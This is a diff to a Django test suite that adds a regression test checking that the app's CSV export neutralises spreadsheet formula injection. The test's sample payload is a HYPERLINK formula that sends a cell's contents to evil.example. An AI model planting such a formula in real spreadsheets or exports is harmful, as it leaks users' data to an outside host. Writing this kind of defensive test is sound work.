@@ -317,3 +317,16 @@ def test_a_user_granted_the_change_permission_may_edit_without_a_role(client, se
 def test_admins_may_edit_too(client, seeded, admin_user):
     client.force_login(admin_user)
     assert client.get(reverse("decisions:case-create")).status_code == 200
+
+
+def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(client, seeded):
+    """Issue 22: the public export wrote text typed by users (`=HYPERLINK(…)`) as a live formula."""
+    evil = '=HYPERLINK("http://evil.example/x?d="&D5,"Klikk")'
+    point = DecisionPoint.objects.filter(case__reference="FO 42/2020").get()
+    DecisionPoint.objects.filter(pk=point.pk).update(responsible="+47 999 99 999", text="@SUM(1)", closed_text=evil)
+    body = client.get(reverse("decisions:csv")).content.decode().lstrip("\ufeff")
+    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
+    row = next(r for r in rows if r[0] == "FO 42/2020")
+    assert row[16] == "'" + evil
+    assert (row[9], row[10]) == ("'@SUM(1)", "'+47 999 99 999")
+    assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
